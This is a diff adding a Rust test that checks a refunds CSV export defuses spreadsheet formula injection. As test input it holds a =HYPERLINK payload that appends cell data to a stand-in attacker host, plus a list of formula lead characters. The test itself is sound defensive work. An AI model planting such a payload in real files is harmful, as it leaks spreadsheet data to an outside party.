@@ -86,6 +86,39 @@ fn the_refunds_csv_holds_exactly_the_filtered_refunds() {
 }
 
 #[test]
+fn the_refunds_csv_neutralises_a_formula_in_a_note_and_keeps_amounts_numbers() {
+    let mut l = ledger();
+    l.add(&[sale("CO-F", "P-F", "CO", "3000000")]);
+    let sam = op(&l.db, "sam");
+    let hyperlink = r#"=HYPERLINK("http://attacker.example/?"&A1,"Click")"#;
+    let mut input = psp_refund("P-F", "150000");
+    input.note = Some(hyperlink.into());
+    let r = refunds::request(&mut l.store, &sam, &input, Utc::now()).unwrap();
+    let mut full_width = psp_refund("P-F", "1000");
+    full_width.note = Some("＠SUM(A1:A9)".into());
+    refunds::request(&mut l.store, &sam, &full_width, Utc::now()).unwrap();
+    let path = l.dir.path().join("refunds.csv");
+    assert_eq!(refunds::export::export_csv(&l.store, &RefundQuery::default(), &path).unwrap(), 2);
+    let bytes = std::fs::read(&path).unwrap();
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for spreadsheet programs");
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2);
+    assert_eq!(&rows[0][column("id")], r.id.to_string().as_str());
+    assert_eq!(&rows[0][column("note")], format!("'{hyperlink}").as_str());
+    assert_eq!(&rows[0][column("amount")], "150000.00");
+    assert_eq!(&rows[1][column("note")], "'＠SUM(A1:A9)");
+    assert_eq!(&rows[1][column("amount")], "1000.00");
+    // No cell of the file starts a formula.
+    let leads = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    for row in &rows {
+        assert!(row.iter().all(|cell| !cell.starts_with(leads)), "{row:?}");
+    }
+}
+
+#[test]
 fn the_dashboard_counts_pending_by_tier_and_time_to_approve() {
     let mut l = ledger();
     l.add(&[sale("CO-A", "P-A", "CO", "3000000"), sale("CO-B", "P-B", "CO", "3000000")]);
